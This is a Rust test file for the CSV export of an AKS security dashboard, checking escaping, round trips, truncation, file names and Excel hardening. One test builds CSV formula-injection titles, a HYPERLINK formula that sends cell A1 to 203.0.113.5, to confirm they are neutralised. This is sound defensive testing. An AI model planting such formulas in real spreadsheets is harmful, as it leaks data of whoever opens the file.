//! The CSV report: row mapping, RFC 4180 escaping, Excel hardening, round trips through the
//! `csv` reader.

mod common;

use aks_security_dashboard::domain::csv::{
    BOM, COLUMNS, CsvOptions, CsvWriter, EXCEL_CELL_LIMIT, TRUNCATION_MARKER, excel_cell,
    file_name, report_findings,
};
use aks_security_dashboard::domain::{Alert, AlertStatus, ClusterData, FindingRef, Level};

fn demo() -> ClusterData {
    common::demo_data()
}

fn export(findings: &[FindingRef], excel: bool) -> Vec<u8> {
    let mut w = CsvWriter::new(CsvOptions {
        excel,
        ..CsvOptions::default()
    })
    .unwrap();
    for f in findings {
        w.write(*f).unwrap();
    }
    assert_eq!(w.rows(), findings.len());
    w.finish().unwrap()
}

fn read(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let body = bytes.strip_prefix(BOM).unwrap_or(bytes);
    let mut r = csv::Reader::from_reader(body);
    let header = r.headers().unwrap().iter().map(String::from).collect();
    let rows = r
        .records()
        .map(|rec| rec.unwrap().iter().map(String::from).collect())
        .collect();
    (header, rows)
}

fn hostile_alert(title: &str) -> Alert {
    Alert {
        id: "/subscriptions/s/resourceGroups/rg/providers/Microsoft.Security/locations/westeurope/alerts/1".into(),
        alert_type: "K8S.NODE_ReverseShell".into(),
        title: title.into(),
        description: String::new(),
        severity: Level::High,
        status: AlertStatus::Active,
        entity: "payments/api-7d9c\"x\",y".into(),
        tactic: "Execution".into(),
        techniques: vec![],
        start_time: "2026-11-21T00:07:59.9288328Z".into(),
        remediation_steps: vec![],
        portal_link: "https://portal.azure.com/#blade/x".into(),
        entities: vec![],
        extended_properties: vec![],
    }
}

#[test]
fn whole_report_has_one_row_per_finding_with_stable_columns() {
    let data = demo();
    let findings = report_findings(&data);
    let expected = data.alerts.len()
        + data.open_vulnerabilities().count()
        + data.misconfigurations().count()
        + data.compliance_findings().count();
    assert_eq!(findings.len(), expected);
    let (header, rows) = read(&export(&findings, false));
    assert_eq!(header, COLUMNS);
    assert_eq!(rows.len(), expected);
    let col = |name: &str| COLUMNS.iter().position(|c| *c == name).unwrap();
    for kind in ["alert", "vulnerability", "misconfiguration", "compliance"] {
        assert!(
            rows.iter().any(|r| r[col("type")] == kind),
            "no {kind} rows"
        );
    }
    let log4shell = rows
        .iter()
        .find(|r| {
            r[col("cve")] == "CVE-2021-44228"
                && r[col("component")].ends_with("payments-api:2.14.3")
        })
        .unwrap();
    assert_eq!(
        log4shell[col("package")],
        "org.apache.logging.log4j:log4j-core"
    );
    assert_eq!(
        (
            log4shell[col("installed_version")].as_str(),
            log4shell[col("fixed_version")].as_str()
        ),
        ("2.14.1", "2.15.0")
    );
    assert_eq!(
        (
            log4shell[col("severity")].as_str(),
            log4shell[col("cvss")].as_str()
        ),
        ("Critical", "10.0")
    );
    assert!(log4shell[col("image_digest")].starts_with("sha256:"));
    assert!(
        log4shell[col("first_seen")].ends_with('Z') && log4shell[col("first_seen")].len() == 20
    );
    let owned = rows
        .iter()
        .find(|r| r[col("owner")] == "maria.kowalski@contoso.com")
        .unwrap();
    assert_eq!(
        (
            owned[col("due_date")].as_str(),
            owned[col("risk_level")].as_str()
        ),
        ("2026-12-05T00:00:00Z", "Critical")
    );
    assert_eq!(
        owned[col("severity")],
        "High",
        "severity stays the static severity when a risk level exists"
    );
    let compliance = rows
        .iter()
        .find(|r| r[col("type")] == "compliance")
        .unwrap();
    assert!(!compliance[col("standard")].is_empty() && !compliance[col("control")].is_empty());
}

#[test]
fn quotes_commas_and_newlines_survive_a_round_trip() {
    let alert = hostile_alert("line one\nline \"two\", with comma\r\nand CRLF");
    let bytes = export(&[FindingRef::Alert(&alert)], false);
    assert!(!bytes.starts_with(BOM), "the plain variant has no BOM");
    let (_, rows) = read(&bytes);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0][2], alert.title);
    assert_eq!(rows[0][6], alert.entity);
    assert_eq!(rows[0][18], "2026-11-21T00:07:59Z");
}

#[test]
fn excel_variant_has_a_bom_and_neutralises_formula_cells() {
    for lead in ["=", "+", "-", "@", "\t", "\r"] {
        let title = format!("{lead}HYPERLINK(\"http://203.0.113.5/?\"&A1,\"click\")");
        let alert = hostile_alert(&title);
        let excel = export(&[FindingRef::Alert(&alert)], true);
        assert!(excel.starts_with(BOM));
        let (_, rows) = read(&excel);
        assert_eq!(rows[0][2], format!("'{title}"), "lead {lead:?}");
        let (_, plain) = read(&export(&[FindingRef::Alert(&alert)], false));
        assert_eq!(
            plain[0][2], title,
            "the plain variant keeps the text as it is"
        );
    }
    assert_eq!(excel_cell("Müller – ok = fine"), "Müller – ok = fine");
}

#[test]
fn excel_cells_are_cut_at_the_limit_with_a_visible_marker() {
    let long = "é".repeat(40_000);
    let cut = excel_cell(&long);
    assert_eq!(cut.chars().count(), EXCEL_CELL_LIMIT);
    assert!(cut.ends_with(TRUNCATION_MARKER));
    let exact = "x".repeat(EXCEL_CELL_LIMIT);
    assert_eq!(
        excel_cell(&exact),
        exact,
        "a cell at the limit is kept whole"
    );
    let risky = format!("={}", "x".repeat(EXCEL_CELL_LIMIT));
    let cut = excel_cell(&risky);
    assert!(cut.starts_with("'=") && cut.ends_with(TRUNCATION_MARKER));
    assert_eq!(cut.chars().count(), EXCEL_CELL_LIMIT);

    let alert = hostile_alert(&long);
    let (_, plain) = read(&export(&[FindingRef::Alert(&alert)], false));
    assert_eq!(
        plain[0][2].chars().count(),
        40_000,
        "the plain variant is lossless"
    );
}

#[test]
fn file_names_carry_cluster_scope_note_and_utc_time() {
    assert_eq!(
        file_name("aks-payments-prod-weu", None, None, "20261122T101500Z"),
        "aks-payments-prod-weu-security-findings-20261122T101500Z.csv"
    );
    assert_eq!(
        file_name(
            "aks/prod weu",
            Some("vulnerability-critical"),
            Some("before-refresh"),
            "20261122T101500Z"
        ),
        "aks-prod-weu-security-findings-vulnerability-critical-before-refresh-20261122T101500Z.csv"
    );
}
